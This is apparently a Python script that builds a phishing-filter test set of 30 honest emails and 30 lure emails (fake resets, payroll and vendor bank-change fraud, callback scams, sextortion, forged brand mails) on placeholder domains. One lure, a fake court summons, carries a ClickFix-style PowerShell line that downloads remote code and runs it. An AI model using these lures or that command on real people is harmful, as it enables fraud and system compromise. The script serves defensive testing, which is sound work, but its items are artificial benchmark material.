#!/usr/bin/env python3
"""Sixty mails by a hostile examiner, written after the weights and rules of `mail/phishing` were set and measured once
before anything was changed for them: 30 honest ones of today (letters of mailers, banks, calendars, tickets, lists that
rewrite From, parcels, resets that were asked for) and 30 lures of kinds that the other sets lack.

    python3 bench/mail_examiner.py OUT   ->  OUT/{honest,lure}-x/*.eml, OUT/lure-forged/*.eml, OUT/trusted.toml

`lure-forged` holds 12 lures from the exact domains of known houses, each three times: disproven by the trusted server
(`dmarc=fail`), of a house without a policy (`dmarc=none`), and with nothing checked; `--config OUT/trusted.toml`.

Header fields and parts are built as these programs write them; every sentence is the author's own, nothing leads
anywhere. Every other mail keeps the results of its server. One author; 30 independent samples a side: expect ±10 points."""
import usage
import base64, io, random, sys, zipfile
from email.message import EmailMessage
from email.utils import format_datetime
from datetime import datetime, timedelta, timezone
from pathlib import Path

US, ANNA = "parti-bleu.example", "anna.rey@parti-bleu.example"
R = random.Random(2611)
token = lambda n=14: "".join(R.choice("bcdfghjkmnpqrstvwxz23456789") for _ in range(n))


class Box:
    def __init__(self, out):
        self.out, self.n = Path(out), 0
        self.out.mkdir(parents=True, exist_ok=True)

    def mail(self, kind, name, address, subject, text="", links=(), back=None, relay=None, auth="pass", to=ANNA, files=(), html=True, fields=(), note=""):
        """`links`: words and address; `files`: name, type, bytes; `auth` is what DMARC came to."""
        self.n += 1
        m, domain = EmailMessage(), address.split("@")[1]
        back, relay = back or address, relay or f"mail.{domain}"
        when = format_datetime(datetime(2026, 9, 7, 7, tzinfo=timezone.utc) + timedelta(hours=7 * self.n))
        m["Return-Path"], m["Delivered-To"] = f"<{back}>", to
        m["Received"] = f"from {relay} ({relay} [198.51.100.{self.n}]) by mx.{US} (Postfix) with ESMTPS id {token(9)} for <{to}>; {when}"
        if auth and self.n % 2:
            spf, dkim = ("pass", "pass") if auth == "pass" else ("softfail", "none")
            m["Authentication-Results"] = f"mx.{US}; spf={spf} smtp.mailfrom={back}; dkim={dkim} header.d={domain}; dmarc={auth} header.from={domain}"
        m["From"], m["To"], m["Subject"], m["Date"] = f'"{name}" <{address}>' if name else address, to, subject, when
        m["Message-ID"] = f"<{token()}@{relay}>"
        for key, value in fields:
            m[key] = value.replace("#", token())
        links = [(words, url.replace("#", token())) for words, url in links]
        if html:
            body = "".join(f"<p>{p}</p>" for p in text.split("\n")) + "".join(f'<p><a href="{u}">{w}</a></p>' for w, u in links)
            m.set_content(f"<html><body>{body}{note}</body></html>", subtype="html")
        else:
            m.set_content(text + "".join(f"\n{w} {u}".rstrip() for w, u in links) + "\n" + note)
        for filename, media, data in files:
            main, sub = media.split("/")
            if main == "text":
                m.add_attachment(data.decode(), subtype=sub, filename=filename)
            else:
                m.add_attachment(data, maintype=main, subtype=sub, filename=filename)
        (self.out / f"{self.n:02}-{kind}.eml").write_bytes(m.as_bytes())


def packed(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def docx(paragraphs, link=""):
    """A document of a few paragraphs, with one link."""
    text = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    relation = f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="{link}" TargetMode="External"/>' if link else ""
    return packed({"[Content_Types].xml": "<Types/>", "word/document.xml": f"<w:document><w:body>{text}</w:body></w:document>", "word/_rels/document.xml.rels": f"<Relationships>{relation}</Relationships>"})


def pdf(line, link=""):
    annotation = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({link})>>>>]" if link else ""
    stream = f"BT /F1 12 Tf 72 700 Td ({line}) Tj ET"
    return f"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R{annotation}>>endobj\n4 0 obj<</Length {len(stream)}>>stream\n{stream}\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".encode()


def invite(summary, organiser, url, method="REQUEST"):
    return f"BEGIN:VCALENDAR\r\nMETHOD:{method}\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:{token()}\r\nDTSTART:20261004T080000Z\r\nORGANIZER;CN=x:mailto:{organiser}\r\nATTENDEE:mailto:{ANNA}\r\nSUMMARY:{summary}\r\nDESCRIPTION:{url}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()


def honest(b):
    leave = lambda url: (("List-Unsubscribe", f"<{url}>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Feedback-ID", "#:#:#"))
    b.mail("mailchimp", "Cinéma Le Phare", "programme@cinema-lephare.example", "Cette semaine : deux avant-premières", "Réservez vos places avant vendredi, tarif réduit pour les abonnés.", [("Réserver", "https://cinema-lephare.us14.list-manage.com/track/click?u=#&id=#"), ("Voir le programme", "https://cinema-lephare.us14.list-manage.com/track/click?u=#")], "bounce-mc.us14_#@mail201.suw11.mcdlv.net".replace("#", token()), "mail201.suw11.mcdlv.net", fields=leave("https://cinema-lephare.us14.list-manage.com/unsubscribe?u=#"))
    b.mail("brevo", "Ressourcerie du Canal", "coucou@ressourcerie-canal.example", "Braderie samedi : tout à 1 €", "Venez tôt, il n'y en aura pas pour tout le monde !", [("Je m'inscris", "https://#.r.af.d.sendibt2.com/tr/cl/#")], "bounces-1@#.d.mailin.fr".replace("#", token(5)), "gk.d.mailin.fr", fields=leave("https://#.r.af.d.sendibt2.com/tr/un/#"))
    b.mail("klaviyo", "Lund & Søn", "hej@lundogson.example", "Din kurv venter på dig", "Du glemte noget i kurven. Vi holder det for dig i 24 timer.", [("Gå til kurven", "https://ctrk.klclick2.com/l/#")], "bounce@em8811.lundogson.example", "o4.ptr9.klaviyomail.com", fields=leave("https://manage.kmail-lists.com/subscriptions/unsubscribe?a=#"))
    b.mail("hubspot", "Priya at Deskware", "priya@deskware.example", "Your trial ends on Friday", "Hi Anna, your trial of Deskware ends in 3 days. Add a payment method to keep your boards.", [("Keep my workspace", "https://app.deskware.example/billing?x=#")], "1axc@bf07.hubspotemail.net", "bid12.hubspotemail.net", fields=leave("https://hs-9.s.hubspotemail.net/email-unsubscribe/#"))
    b.mail("bank", "Banque Populaire", "ne-pas-repondre@info.banquepopulaire.fr", "Ajout d'un bénéficiaire", "Bonjour, le bénéficiaire « Imprimerie Adour » a été ajouté à votre liste. Si vous n'êtes pas à l'origine de cette opération, contactez votre conseiller au numéro habituel.")
    b.mail("bank", "Sparkasse Kiel", "kundenservice@sparkasse-kiel.de", "Neue Mitteilung in Ihrem Postfach", "In Ihrem elektronischen Postfach liegt eine neue Mitteilung. Melden Sie sich wie gewohnt über die Adresse an, die Sie kennen.")
    b.mail("bank", "Revolut", "no-reply@revolut.com", "Your monthly statement is ready", "Your statement for August is ready to view in the app.", [("Open the app", "https://www.revolut.com/app/statements/#")])
    b.mail("calendar", "Sofia Lindqvist", "sofia@kommunen.example", "Uppdaterad inbjudan: Budgetmöte @ ons 7 okt 2026 09:00", "Den här händelsen har uppdaterats.\nAnslut med Google Meet", [("meet.google.com/kdp-whvz-rte", "https://meet.google.com/kdp-whvz-rte"), ("Ja", "https://calendar.google.com/calendar/event?action=RESPOND&eid=#&rst=1"), ("Fler alternativ", "https://calendar.google.com/calendar/event?action=VIEW&eid=#")], "#@calendar-server.bounces.google.com".replace("#", token()), "mail-sor-f41.google.com", fields=(("Sender", "Google Calendar <calendar-notification@google.com>"), ("Reply-To", "sofia@kommunen.example")), files=[("invite.ics", "text/calendar", invite("Budgetmöte", "sofia@kommunen.example", "https://meet.google.com/kdp-whvz-rte"))])
    b.mail("calendar", "Hélène Marchand", "helene.marchand@univ-adour.example", "Jury de mémoire", "Réunion Microsoft Teams\nParticiper sur votre ordinateur ou mobile\nID de réunion : 331 902 118 4", [("Cliquez ici pour participer", "https://teams.microsoft.com/l/meetup-join/19%3ameeting_#%40thread.v2/0?context=#")], relay="mail-mr2fra01on2051.outbound.protection.outlook.com", files=[("invite.ics", "text/calendar", invite("Jury", "helene.marchand@univ-adour.example", "https://teams.microsoft.com/l/meetup-join/x"))])
    b.mail("calendar", "Calendly", "no-reply@calendly.com", "New Event: Paul Garnier - 10:00 Fri, 9 Oct 2026 - Interview", "A new event has been scheduled.\nInvitee: Paul Garnier\nInvitee Email: paul.garnier@radio-adour.example", [("View event in Calendly", "https://calendly.com/events/#")])
    b.mail("ticket", "Support Imprimerie Adour", "support@imprimerie-adour.freshdesk.com", "Re: [#4471] Délai des tracts", "Bonjour Anna, vos tracts partent demain. Merci de répondre au-dessus de cette ligne.", [("Voir le ticket", "https://imprimerie-adour.freshdesk.com/helpdesk/tickets/4471")], fields=(("In-Reply-To", "<a1@parti-bleu.example>"),))
    b.mail("ticket", "GLPI Parti Bleu", f"glpi@{US}", "[GLPI #0000812] Nouveau suivi : mot de passe de l'imprimante", f"URL : https://glpi.{US}/index.php?redirect=ticket_812\nSuivi : le compte a été réinitialisé, merci de vérifier.", html=False, relay=f"glpi.{US}", auth=None)
    b.mail("ticket", "Bugzilla", "bugzilla@bugs.tirage.example", "[Bug 9912] Login page rejects valid password", "What    |Removed |Added\nStatus  |NEW     |ASSIGNED", [("https://bugs.tirage.example/show_bug.cgi?id=9912", "https://bugs.tirage.example/show_bug.cgi?id=9912")], html=False, fields=(("Auto-Submitted", "auto-generated"), ("List-Id", "<bugs.tirage.example>")))
    rewritten = lambda lid, host: (("List-Id", f"<{lid}>"), ("List-Post", f"<mailto:{lid.replace('.', '@', 1)}>"), ("Precedence", "list"), ("Sender", f"bounces@{host}"), ("X-Mailman-Version", "3.3.9"))
    b.mail("list-munged", "Aïcha Benali via Riverains", "riverains@listes.quartier.example", "[Riverains] Travaux rue du Port : réunion demain", "Bonjour à tous, réunion demain à 18 h en mairie.\nAïcha", html=False, back="riverains-bounces@listes.quartier.example", fields=rewritten("riverains.listes.quartier.example", "listes.quartier.example") + (("Reply-To", "aicha.benali@gmail.com"),))
    b.mail("list-munged", "'Owen Pryce' via Volunteers", f"volunteers@{US}", "Van keys?", "Who has the keys to the van? I need them by tonight.\n\n-- \nTo unsubscribe from this group, send an email to volunteers+unsubscribe.", html=False, back=f"volunteers+bncBD#@{US}".replace("#", token()), relay="mail-lf1-f56.google.com", auth=None, fields=(("List-ID", f"<volunteers.{US}>"), ("List-Post", f"<mailto:volunteers@{US}>"), ("Precedence", "list"), ("Mailing-list", f"list volunteers@{US}"), ("X-Original-From", "Owen Pryce <owen@pryce.example>"), ("Reply-To", "Owen Pryce <owen@pryce.example>")))
    b.mail("list", "Jens Aagaard", "jens.aagaard@posteo.dk", "Re: [pg-da] backup-strategi", "> hvad bruger I?\nVi bruger barman, se https://barman.projekt.example/docs", html=False, auth="fail", back="pg-da-bounces@lister.pg.example", relay="lister.pg.example", fields=rewritten("pg-da.lister.pg.example", "lister.pg.example") + (("In-Reply-To", "<b2@posteo.dk>"), ("References", "<b2@posteo.dk>")))
    b.mail("parcel", "Mondial Relay", "noreply@mondialrelay.fr", "Votre colis 55218840 est disponible", "Votre colis vous attend au Tabac du Port jusqu'au 14 octobre. Munissez-vous d'une pièce d'identité.", [("Suivre mon colis", "https://www.mondialrelay.fr/suivi-de-colis/?numeroExpedition=55218840")])
    b.mail("parcel", "Evri", "do-not-reply@evri.com", "We're on our way with your parcel", "Your parcel from Brook Books will arrive between 12:00 and 14:00.", [("Track my parcel", "https://www.evri.com/track/parcel/#")])
    b.mail("parcel", "Librairie Prado", "commandes@librairie-prado.example", "Votre commande 2211 est expédiée", "Suivi Colissimo : 6A2211. Merci de votre achat !", [("Suivre", "https://www.laposte.fr/outils/suivre-vos-envois?code=6A2211"), ("Ma commande", "https://librairie-prado.example/commande/2211")])
    b.mail("reset", "WordPress", f"wordpress@www.{US}", "[Parti Bleu] Réinitialisation de mot de passe", f"Quelqu'un a demandé la réinitialisation du mot de passe du compte anna.\nSi ce n'était pas vous, ignorez ce message.\nhttps://www.{US}/wp-login.php?action=rp&key={token()}&login=anna", html=False, relay=f"www.{US}", auth=None)
    b.mail("reset", "Framasoft", "contact@framaspace.example", "Réinitialiser votre mot de passe", "Vous avez demandé à réinitialiser votre mot de passe. Ce lien expire dans 2 heures.", [("Réinitialiser mon mot de passe", "https://framaspace.example/lostpassword/reset/#/anna")])
    b.mail("reset", "Canva", "no-reply@account.canva.com", "Reset your password", "We received a request to reset your Canva password. The link is good for one hour.", [("Reset password", "https://www.canva.com/reset-password?token=#")])
    b.mail("code", "Doctolib", "no-reply@doctolib.fr", "Votre code de vérification : 401882", "Saisissez ce code pour vous connecter. Ne le partagez avec personne.")
    b.mail("share", "Nextcloud Parti Bleu", f"cloud@{US}", "Tom Weber a partagé « Plan de salle.pdf » avec vous", "Tom Weber a partagé « Plan de salle.pdf » avec vous.", [("Ouvrir « Plan de salle.pdf »", f"https://cloud.{US}/s/#")], relay=f"cloud.{US}", auth=None)
    b.mail("share", "Inès Caron (via Dropbox)", "no-reply@dropbox.com", "Inès Caron vous a invité(e) à consulter « Affiches »", "Inès vous invite à consulter le dossier « Affiches » sur Dropbox.", [("Accéder au dossier", "https://www.dropbox.com/scl/fo/#?rlkey=#")])
    b.mail("sign", "Yousign", "no-reply@yousign.app", "Mairie de Kervil vous invite à signer 1 document", "Vous êtes invité à signer la convention d'occupation du gymnase.", [("Accéder aux documents", "https://yousign.app/signatures/#")])
    b.mail("receipt", "Lydia Pro", "facture@lydia-app.com", "Reçu : 35,00 € de Paul Garnier", "Vous avez reçu 35,00 € de Paul Garnier pour « Repas ».", [("Voir l'opération", "https://lydia-app.com/collect/#")])
    b.mail("person", "Tom Weber", "tom.weber@liste-citoyenne.example", "l'affiche", "Voici : https://drive.google.com/file/d/1#/view\nTu valides avant midi ?".replace("#", token()), html=False)
    b.mail("person", "Maître Feld", "feld@kanzlei-feld.example", "Bail : version à signer", "Chère Anna, ci-joint le bail corrigé. Rappelez-moi au +33 2 96 55 01 44 avant jeudi.", html=False, files=[("Bail-v3.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx(["BAIL COMMERCIAL", "Entre les soussignés, il est convenu ce qui suit.", "Le loyer est payable par virement le 5 de chaque mois."]))])
    b.mail("invoice", "EDF Entreprises", "ne-pas-repondre@edf.fr", "Votre facture du 7 septembre", "Votre facture de 212,40 € est disponible. Elle sera prélevée le 21 septembre.", [("Consulter ma facture", "https://entreprises.edf.fr/espace-client/factures/#")], files=[("facture.pdf", "application/pdf", pdf("Facture EDF 212,40 EUR"))])


def lure(b):
    W = "https://menuiserie-adour.example/wp-content/uploads/2026/#/"
    b.mail("docx-hr", "RH – Parti Bleu", "people@campus-hjelp.example", "Charte de télétravail : lecture obligatoire", "Voir le document.", files=[("Charte.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx(["Pour accéder à la charte, identifiez-vous avec votre compte professionnel.", "Sans validation sous 24 heures, votre accès à la messagerie sera suspendu."], "https://charte.#.workers.dev/?u=anna.rey@parti-bleu.example".replace("#", token())))])
    b.mail("callback-xlsx", "Accounts", "accounts@gardenworks.example", "Order 77120", "See attached.", files=[("Order77120.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", "xl/sharedStrings.xml": "<sst><si><t>Your Norton subscription was renewed and $399.99 will be charged today.</t></si><si><t>To cancel and get a refund call our support at +1 (808) 555-0177.</t></si></sst>"}))])
    b.mail("onenote", "Comptabilité", "facture@tischlerei-hansen.example", "Facture impayée", "Voir ci-joint.", files=[("Facture.one", "application/onenote", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + "Double-cliquez pour voir le document sécurisé https://docs.login-view.example/f".encode("utf-16-le") + bytes(8))])
    b.mail("svg", "Telefonanlage", "voicemail@loc-materiel.example", "Neue Sprachnachricht (0:41)", "Anbei.", files=[("Nachricht.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="https://vm-portal.example/?anna.rey@parti-bleu.example"><text>Anh&#246;ren</text></a></svg>')])
    b.mail("teams", "Microsoft Teams", "notifications@kessler-dach.example", "Claire Petit is trying to reach you", "Claire left you 2 messages in the channel Budget. Reply before they expire.", [("Reply in Teams", "https://teams-#.azurewebsites.net/".replace("#", token(6)))])
    b.mail("tenant", "DocuSign", "dse_na4@brooksidevending.onmicrosoft.com", "Completed: Wire instructions.pdf", "All parties have signed. Review the completed document.", [("VIEW COMPLETED DOCUMENT", W)], relay="mail-bn8nam12on2100.outbound.protection.outlook.com")
    b.mail("signal", "Signal Security", "team@signal-safety.example", "Your account was linked from Minsk", "A new device asks to be linked. Scan or open to keep your chats.", [("Confirm this device", "sgnl://linkdevice?uuid=#&pub_key=#")])
    b.mail("payroll", "Inès Caron", "ines.caron.perso@gmail.com", "Changement de RIB", "Bonjour, j'ai changé de banque. Pouvez-vous mettre à jour mon RIB pour le virement du salaire de ce mois ? Quelles pièces vous faut-il ? Inès", html=False)
    b.mail("vendor", "Imprimerie Adour", "compta@imprimerie-adour-facturation.example", "Nos nouvelles coordonnées bancaires", "Bonjour, suite à un audit notre compte est bloqué. Merci de régler la facture 2026-118 sur le compte ci-joint dès aujourd'hui et de confirmer par retour.", html=False, fields=(("Reply-To", "imprimerie.adour.compta@gmail.com"),), files=[("RIB.pdf", "application/pdf", pdf("Nouveau RIB: LT12 3456"))])
    b.mail("errand", "Marie Durand", "office.mdurand@outlook.com", "Tu es là ?", "Je suis en réunion, je ne peux pas téléphoner. Envoie-moi ton numéro de portable, j'ai une course urgente à te confier.", html=False)
    b.mail("wallet", "Rabby", "hello@rabbywallet-sync.example", "Action needed: migrate to v2", "Wallets not migrated by Sunday lose access to their assets. Import your recovery phrase to migrate.", [("Migrate now", "https://rabbywallet-sync.example/#")])
    b.mail("toll", "APRR Télépéage", "contact@flux-libre-regul.example", "Trajet impayé A13 : 2,90 €", "Votre passage n'a pas été réglé. Sans paiement sous 48 h, une majoration de 90 € s'applique.", [("Payer 2,90 €", "https://flux-libre-regul.example/p/#")])
    b.mail("tax", "Agenzia delle Entrate", "rimborsi@studio-bianchi.example", "Rimborso di 418,20 EUR in attesa", "Il suo rimborso è approvato. Inserisca i dati della carta per riceverlo entro 24 ore.", [("Richiedi il rimborso", W)])
    b.mail("tv", "CANAL+", "info@abonnes.salon-marguerite.example", "Échec du prélèvement", "Votre paiement a été refusé. Mettez à jour votre carte pour éviter la suspension de l'abonnement.", [("Mettre à jour", "https://tinyurl.com/#")])
    b.mail("energy", "Chèque énergie 2026", "contact@aide-foyer.example", "Vous êtes éligible : 277 €", "Votre chèque énergie n'a pas été réclamé. Confirmez votre IBAN avant le 30 septembre.", [("Recevoir mon chèque", "https://aide-foyer.example/ce/#")])
    b.mail("true-service", "PayPal", "service@paypal.com", "Invoice from Crypto Desk (INV-8812)", "Crypto Desk sent you an invoice for $612.00 USD.\nSeller note: You authorised this payment for Bitcoin. If this was not you call +1 (808) 555-0188 immediately to cancel and get a refund.", [("View and Pay Invoice", "https://www.paypal.com/invoice/payerView/details/#")])
    b.mail("true-form", "Google Forms", "forms-receipts-noreply@google.com", "Mailbox verification", "Thanks for filling in Mailbox verification.\nYour mailbox is scheduled for closure. To keep it call +1 (888) 555-0121 now or write to desk.mailbox@outlook.com with your password.", [("Fill out form", "https://docs.google.com/forms/d/e/#/viewform")])
    b.mail("calendar", "Payment Desk", "desk@payout-hub.example", "Invitation: Unclaimed BTC payout 1.42 @ Fri", "Your payout of 1.42 BTC is ready. Withdraw before the event ends.", files=[("invite.ics", "text/calendar", invite("BTC payout 1.42", "desk@payout-hub.example", "Withdraw https://payout-hub.example/claim"))])
    b.mail("true-share", "Studio Brand (via Canva)", "start@engage.canva.com", "Studio Brand shared a design with you", "You have a pending secure document. Sign in with your work mail to view it.", [("Open in Canva", "https://www.canva.com/design/#/view")], note="<p>Document password: call +1 (855) 555-0166</p>")
    b.mail("copyright", "Meta Business Help", "case@page-appeals.example", "Your page will be removed in 24 hours", "We found a copyright violation on your page. Submit an appeal or it will be permanently disabled.", [("Submit appeal", "https://page-appeals.example/case/#")])
    b.mail("job-iso", "Nordic Talent", "careers@nordic-talent.example", "Offre : directeur de campagne", "Bonjour, vous trouverez la fiche de poste dans l'archive.", files=[("Fiche.iso", "application/octet-stream", bytes(0x8001) + b"CD001" + bytes(3000))])
    b.mail("clickfix", "Greffe du tribunal", "convocation@greffe-notif.example", "Convocation n° 26/1182", "Ouvrez la pièce jointe et suivez les étapes.", files=[("Convocation.html", "text/html", b"<html><body><p>Appuyez sur Windows+R puis Ctrl+V et Entree pour verifier que vous etes humain.</p><button onclick=\"navigator.clipboard.writeText('powershell -w h -c iwr https://greffe-notif.example/a|iex')\">Verifier</button></body></html>")])
    b.mail("amp", "Service informatique", "support@campus-hjelp.example", "Votre mot de passe expire aujourd'hui", "Conservez votre mot de passe actuel en confirmant ci-dessous.", [("Conserver mon mot de passe", "https://www.google.com/amp/s/menuiserie-adour.example/owa#anna.rey@parti-bleu.example")])
    inner = EmailMessage()
    inner["From"], inner["To"], inner["Subject"], inner["Date"] = '"Fisc" <avis@studio-bianchi.example>', ANNA, "Remboursement 312 €", "Mon, 07 Sep 2026 08:00:00 +0000"
    inner.set_content(f'<p>Votre remboursement est prêt, confirmez votre carte sous 24 h.</p><a href="{W.replace("#", token())}">Confirmer ma carte</a>', subtype="html")
    b.mail("nested", "Avis", "avis@studio-bianchi.example", "Message sécurisé", "Ouvrez le message joint.", files=[("message.eml", "application/octet-stream", inner.as_bytes())])
    b.mail("homoglyph", "АmеIi", "no-reply@gardenworks.example", "Vоtrе rеmbоursеmеnt dе 212 €", "Connectez-vous pour le recevoir sous 24 heures.", [("Mon compte", W)])
    b.mail("drive", "Procurations 2027", "procuration@service-vote.example", "Votre procuration est incomplète", "Votre procuration pour le second tour n'est pas validée. Complétez votre dossier et joignez une copie de votre carte d'identité avant ce soir.", [("Compléter mon dossier", "https://service-vote.example/dossier/#")])
    b.mail("press", "Daniel Hoffman, The Brook Review", "d.hoffman.brookreview@gmail.com", "Interview request: your programme", "Dear Anna, our questions are in the secure folder. Please sign in with your work mail to read them, deadline tonight.", [("Secure folder", "https://brook-review-share.#.pages.dev/".replace("#", token(5)))])
    b.mail("donation", "HelloAsso", "paiement@asso-reglement.example", "Un don de 500 € est en attente", "Le versement est bloqué : validez votre compte association pour recevoir les fonds.", [("Valider mon compte", "https://asso-reglement.example/helloasso/#")])
    b.mail("extortion", "Moi", "x9@bluehill.example", "J'ai tout vu", "J'ai piraté votre appareil et filmé votre webcam. Envoyez 1200 euros en Bitcoin à 1BoatSLRHtKNngkdXEeobR76b53LETtpyT sous 48 heures, sinon vos contacts recevront la vidéo.", html=False)
    b.mail("outlook-only", "Microsoft 365", "alert@tischlerei-hansen.example", "Quarantaine : 3 messages", "Trois messages attendent votre décision.", note=f'<!--[if mso]><v:roundrect href="{W.replace("#", token())}"><center>Libérer les messages</center></v:roundrect><![endif]-->')


def forged(b):
    """Exact domains of known houses: name, address, subject, text, button, where it leads."""
    for name, address, subject, text, button, url in [
        ("PayPal", "service@paypal.com", "Your account is limited", "We noticed unusual activity. Confirm your identity to restore access.", "Confirm", "https://us-central1-#.cloudfunctions.net/a"),
        ("DHL Paket", "noreply@dhl.de", "Ihre Sendung wartet", "Für Ihre Sendung sind 2,99 EUR offen.", "Jetzt bezahlen", "https://#.web.app/dhl"),
        ("Impots.gouv.fr", "ne-pas-repondre@dgfip.finances.gouv.fr", "Remboursement de 312,40 €", "Un remboursement vous est dû. Indiquez vos coordonnées bancaires.", "Accéder au formulaire", "https://menuiserie-adour.example/wp-includes/#/"),
        ("Netflix", "info@account.netflix.com", "Payment declined", "Update your card to keep watching.", "Update payment", "https://#.azurewebsites.net/nf"),
        ("Microsoft", "account-security-noreply@accountprotection.microsoft.com", "Unusual sign-in activity", "A sign-in from Minsk was detected on your account.", "Review activity", "https://#.blob.core.windows.net/m/index.html"),
        ("Mercado Livre", "contato@mercadolivre.com.br", "Compra suspeita bloqueada", "Confirme seus dados para liberar a conta.", "LIBERAR CONTA", "https://southamerica-east1-#.cloudfunctions.net/b"),
        ("La Banque Postale", "alerte@labanquepostale.fr", "Certicode Plus : activation obligatoire", "Sans activation sous 24 h vos opérations seront bloquées.", "Activer", "https://tinyurl.com/#"),
        ("Amazon.fr", "auto-confirm@amazon.fr", "Votre compte est suspendu", "Un paiement a été refusé. Mettez à jour votre moyen de paiement.", "Mettre à jour", "https://salon-marguerite.example/amz/#"),
        ("Apple", "no_reply@email.apple.com", "Your Apple ID was locked", "Verify your information within 24 hours.", "Verify", "https://#.pages.dev/"),
        ("Poste Italiane", "info@posteitaliane.it", "Il suo conto è bloccato", "Confermi i suoi dati per sbloccarlo.", "Conferma", "https://kessler-dach.example/pi/#"),
        ("DocuSign", "dse@docusign.net", "Complete with DocuSign: Contract", "A document is waiting for your signature. Sign in with your email to view it.", "REVIEW DOCUMENT", "https://storage.googleapis.com/#/d.html"),
        ("Coinbase", "no-reply@coinbase.com", "Withdrawal of 0.8 ETH requested", "If this was not you, secure your wallet now.", "Secure my account", "https://#.workers.dev/cb"),
    ]:
        for auth in ("fail", "none", None):
            b.n += b.n % 2  # Those with results are the odd ones.
            b.mail(f"{auth or 'unchecked'}-{name.split()[0].lower()}", name, address, subject, text, [(button, url)], relay="vps-7.hosting.example", auth=auth)
    (b.out.parent / "trusted.toml").write_text(f'[mail]\ntrusted = ["mx.{US}"]\n')


honest(Box(Path(sys.argv[1]) / "honest-x"))
lure(Box(Path(sys.argv[1]) / "lure-x"))
forged(Box(Path(sys.argv[1]) / "lure-forged"))
